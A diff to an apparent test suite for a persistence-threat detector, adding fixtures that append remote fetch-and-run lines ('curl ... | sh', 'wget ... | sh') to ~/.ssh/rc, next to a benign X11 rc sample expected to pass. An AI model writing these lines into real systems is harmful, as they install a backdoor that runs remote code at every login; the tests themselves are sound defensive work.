@@ -513,6 +513,17 @@ _COMMAND_PERSISTED = {
     with (Path.home() / ".profile").open("a") as fh:
         fh.write("wget -qO- http://198.51.100.24/p | bash\\n")
     """,
+    # blind17 (tune b17-ot-ssh-rc-persist): sshd runs ~/.ssh/rc at every login
+    "ssh-rc-join": """
+    import os
+    rc = os.path.join(os.path.expanduser("~"), ".ssh", "rc")
+    with open(rc, "a") as fh:
+        fh.write("(curl -fsSL https://t.example/k | sh >/dev/null 2>&1 &)\\n")
+    """,
+    "ssh-rc-pathlib": """
+    from pathlib import Path
+    (Path.home() / ".ssh" / "rc").write_text("wget -qO- http://198.51.100.26/r | sh &\\n")
+    """,
     "python-crontab": """
     from crontab import CronTab
     cron = CronTab(user=True)
@@ -542,6 +553,7 @@ def test_a_completion_line_or_a_local_cron_job_is_no_threat() -> None:
     # a completion installer's source line appended through Path.open, a backup job that
     # runs a local program, and a download kept as data by a cron job
     source = """
+    import os
     from pathlib import Path
     from crontab import CronTab
     for rc in (".bashrc", ".zshrc"):
@@ -551,6 +563,10 @@ def test_a_completion_line_or_a_local_cron_job_is_no_threat() -> None:
     cron.new(command="/usr/local/bin/backup --quiet", comment="backup").setall("0 3 * * *")
     cron.new(command="curl -s -o /var/tmp/feed.xml https://example.org/feed.xml")
     cron.write()
+    # ~/.ssh/rc setting up X11 forwarding, as sshd's manual shows (blind17)
+    with open(os.path.expanduser("~/.ssh/rc"), "w") as fh:
+        fh.write("if read proto cookie && [ -n \\"$DISPLAY\\" ]; then\\n"
+                 "  xauth -q add unix:0 $proto $cookie\\nfi\\n")
     """
     assert {r for r in anywhere(source) if r.startswith("CPL-THR")} == set()
 
